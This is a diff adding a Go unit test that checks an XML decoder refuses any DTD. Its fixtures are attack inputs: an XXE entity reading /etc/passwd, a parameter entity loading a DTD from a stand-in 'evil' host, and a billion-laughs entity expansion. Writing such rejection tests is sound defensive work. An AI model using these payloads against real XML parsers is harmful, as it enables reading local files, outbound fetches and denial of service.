@@ -80,3 +80,32 @@ func readAll(d *xmlnode.Decoder) error {
 		}
 	}
 }
+
+// A DTD is refused, naming what it declares: an external entity (XXE),
+// entities that expand (billion laughs), or a bare DOCTYPE.
+func TestRefused(t *testing.T) {
+	tests := []struct{ doc, want string }{
+		{`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, `external entity "xxe" (XXE)`},
+		{`<!DOCTYPE foo [<!ENTITY % p PUBLIC "-//x" "http://evil/x.dtd"> %p;]><foo/>`, `external entity "p" (XXE)`},
+		{`<?xml version="1.0"?>` + "\n" + `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`, `entity "lol"; entity expansion is refused (billion laughs)`},
+		{`<!DOCTYPE data-set SYSTEM "sema.dtd"><data-set/>`, "the lists have no DTD"},
+		{`<!DOCTYPE data-set><data-set/>`, "the lists have no DTD"},
+	}
+	for _, tt := range tests {
+		err := xmlnode.Refused([]byte(tt.doc))
+		if !errors.Is(err, xmlnode.ErrDTD) || !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("Refused(%.40q) = %v, want ErrDTD mentioning %q", tt.doc, err, tt.want)
+		}
+		d := xmlnode.NewDecoder(strings.NewReader(tt.doc), "f.xml")
+		_, err = d.Root()
+		var pe *reader.ParseError
+		if !errors.As(err, &pe) || pe.File != "f.xml" || !errors.Is(err, xmlnode.ErrDTD) || !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("Decoder on %.40q: %v, want a ParseError with ErrDTD mentioning %q", tt.doc, err, tt.want)
+		}
+	}
+	for _, ok := range []string{`<?xml version="1.0"?><data-set><record/></data-set>`, "", "\x00garbage", `<a><!DOCTYPE x></a>`} {
+		if err := xmlnode.Refused([]byte(ok)); err != nil {
+			t.Errorf("Refused(%q) = %v, want nil", ok, err)
+		}
+	}
+}
